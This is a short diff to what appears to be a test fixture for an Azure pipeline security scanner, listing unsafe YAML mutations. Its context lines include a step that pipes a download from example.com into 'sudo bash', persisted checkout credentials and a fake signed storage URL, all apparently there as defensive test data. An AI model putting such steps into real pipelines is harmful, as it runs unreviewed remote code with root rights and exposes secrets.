@@ -92,6 +92,7 @@ UNSAFE_ON_AZURE = {
     "kept-credentials": ("- checkout: self", "- checkout: self\n                  persistCredentials: true", 15),
     "unpinned-action": ("AzureCLI@2", "AzureCLI", 15),
     "text-in-script": ("deploy -t prod", "deploy -t $(Build.SourceBranchName)", 22),
+    "lost-failure": (": databricks bundle", ": |\n                      lakewright validate\n                      databricks bundle", 22),
     "unseen-code": (": databricks", ": curl -s https://example.com/x | sudo bash && databricks", 22),
     "secret": ("BRANCH: $(Build.SourceBranch)", "ARM_CLIENT_SECRET: $(clientSecret)", 17),
     "secret-in-file": ("BRANCH: $(Build.SourceBranch)", "URL: https://x.blob.core.windows.net/a?sv=2&sig=" + "aB3%" * 12, 17),
